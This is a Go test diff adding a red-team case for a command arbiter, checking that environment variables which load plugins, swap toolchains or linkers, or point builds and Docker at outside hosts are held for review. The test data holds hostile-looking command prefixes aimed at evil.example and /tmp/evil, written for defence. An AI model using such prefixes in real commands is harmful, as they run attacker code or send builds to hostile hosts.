@@ -102,3 +102,34 @@ func TestRedTeamRound2(t *testing.T) {
 		}
 	}
 }
+
+// TestRedTeamEnvironment: a variable in front of a command is routine only
+// when it is known to be inert; tools read variables that add options,
+// load plugins, pick toolchains or name files to run.
+func TestRedTeamEnvironment(t *testing.T) {
+	for _, tt := range []struct {
+		cmd  string
+		want arbiter.Verdict
+	}{
+		{"MAKEFILES=/tmp/evil.mk make", arbiter.Defer},
+		{"GOTOOLCHAIN=go1.99.0 go build ./...", arbiter.Defer},
+		{"GOPROXY=http://evil.example go build ./...", arbiter.Defer},
+		{"RUSTFLAGS='-C linker=/tmp/evil' cargo build", arbiter.Defer},
+		{"CARGO_TARGET_X86_64_UNKNOWN_LINUX_GNU_RUNNER=/tmp/evil cargo run", arbiter.Defer},
+		{"PYTEST_ADDOPTS='-p evil' pytest", arbiter.Defer},
+		{"RIPGREP_CONFIG_PATH=/tmp/rgrc rg foo", arbiter.Defer},
+		{"CURL_HOME=/tmp curl http://localhost:8000", arbiter.Defer},
+		{"MAVEN_OPTS=-javaagent:/tmp/a.jar mvn test", arbiter.Defer},
+		{"DOCKER_HOST=tcp://evil.example:2375 docker ps", arbiter.Defer},
+		{"CGO_CFLAGS='-wrapper /tmp/evil' go build ./...", arbiter.Defer},
+		{"LANG=C sort names.txt", arbiter.Allow},
+		{"RUST_BACKTRACE=1 cargo test", arbiter.Allow},
+		{"CI=true npm test", arbiter.Allow},
+		{"PYTHONDONTWRITEBYTECODE=1 pytest -q", arbiter.Allow},
+		{"GOOS=linux GOARCH=arm64 go build ./...", arbiter.Allow},
+	} {
+		if d := Decide(context.Background(), bash(tt.cmd)); d.Decision != tt.want {
+			t.Errorf("%s: got %s %v, want %s", tt.cmd, d.Decision, d.Rules, tt.want)
+		}
+	}
+}
